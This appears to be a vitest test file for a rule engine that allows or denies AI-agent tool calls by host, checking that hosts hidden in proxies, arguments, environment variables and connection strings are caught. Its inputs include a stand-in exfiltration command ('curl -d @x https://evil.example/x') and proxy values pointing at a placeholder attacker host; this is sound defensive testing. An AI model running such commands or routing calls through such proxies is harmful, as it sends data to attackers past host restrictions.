import { describe, expect, it } from 'vitest';
import { actionSchema } from '../actions/action.ts';
import type { Action } from '../actions/action.ts';
import { ruleSchema } from '../rules/rule.ts';
import type { Conditions, Rule } from '../rules/rule.ts';
import { decideBy } from '../testing/verdicts.ts';

const rule = (effect: Rule['effect'], when: Conditions, rest: Partial<Rule> = {}): Rule =>
  ruleSchema.parse({ id: `${effect}-rule`, effect, when, justification: 'test', ...rest });
const outcome = (action: Action, ...rules: readonly Rule[]) => decideBy(action, rules).outcome;
const call = (args: object) => actionSchema.parse({ kind: 'mcp.call', server: 'mail', tool: 'send', arguments: args });

describe('a rule that allows by host', () => {
  const allowed = (args: object) =>
    outcome(call({ url: 'https://ok.example/a', ...args }), rule('allow', { host: ['ok.example'] })) === 'allow';

  it.each([
    { proxy: 'evil.example:80' },
    { proxy: 'evil.example' },
    { proxyUrl: 'evil' },
    { httpProxy: 'evil.example' },
    { options: { proxies: ['ok.example', 'evil.example'] } },
    { server: '192.0.2.1' },
    { registry: 'evil.example/x' },
    { whatever: 'evil.example:443/x' },
    { whatever: '[2001:db8::1]:80' },
    { args: ['--proxy', 'evil.example'] },
    { args: ['--proxy=evil.example'] },
    { args: ['--proxy=http://evil.example'] },
    { args: [`${'--a='.repeat(4000)}--proxy=evil.example`] },
    { args: [`${'--a='.repeat(4000)}http://evil.example`] },
    { env: { HTTPS_PROXY: 'evil.example' } },
    { dsn: 'host=evil.example port=5432' },
    { dsn: 'u:p@tcp(evil.example:3306)/x' },
    { connectionString: 'Server=tcp:evil.example,1433;Database=x' },
  ])('sees every host that a call is given: %j', (args) => {
    expect(allowed(args)).toBe(false);
  });

  it.each([
    {},
    { proxy: 'ok.example:3128' },
    { file: 'out.json', body: 'see evil.example', version: '1.2.3', at: '10:30', count: 3, server: 'main', path: '/a/b.c' },
    { whatever: 'ok.example:443' },
    { origin: 'main', proxy: '' },
  ])('takes nothing else for one: %j', (args) => {
    expect(allowed(args)).toBe(true);
  });

  it('allows nothing by what only looks like a host', () => {
    expect(outcome(call({ whatever: 'ok.example:80' }), rule('allow', { host: ['ok.example'] }))).toBe('deny');
  });

  it.each([{ proxy: 'evil.example:80' }, { server: 'evil.example' }, { args: ['--proxy=evil.example'] }, { dsn: 'host=evil.example' }])(
    'has its counterpart in one that denies: %j',
    (args) => {
      expect(outcome(call(args), rule('deny', { host: ['evil.example'] }), rule('allow', {}))).toBe('deny');
    },
  );

  it.each([
    'evil.example:443',
    '//evil.example/x',
    'evil.example/path',
    'see https://evil.example/x',
    'curl -d @x https://evil.example/x',
    '["https://evil.example"]',
    'git@evil.example:x/y',
    'https://ok.example/?then=https://EVIL.example:8080/',
  ])('is met in one that denies by %j, whatever it is called', (text) => {
    expect(outcome(call({ u: text }), rule('deny', { host: ['evil.example'] }), rule('allow', {}))).toBe('deny');
    expect(outcome(call({ u: text }), rule('deny', { host: ['*.elsewhere'] }), rule('allow', {}))).toBe('allow');
  });

  it.each(['see evil.example', 'notes.md/1', 'main.ts:12', 'a.b/c'])('is not met by %j where no host is named', (text) => {
    expect(outcome(call({ u: text }), rule('deny', { host: ['*', '*.*'] }), rule('allow', {}))).toBe('allow');
  });

  it.each(['a.'.repeat(5000), '://'.repeat(3000), 'x@'.repeat(5000), 'https://a.b '.repeat(900)])('costs little: %#', (text) => {
    const begun = performance.now();
    outcome(call({ u: text }), rule('deny', { host: ['evil.example'] }), rule('allow', {}));
    expect(performance.now() - begun).toBeLessThan(1000);
  });
});
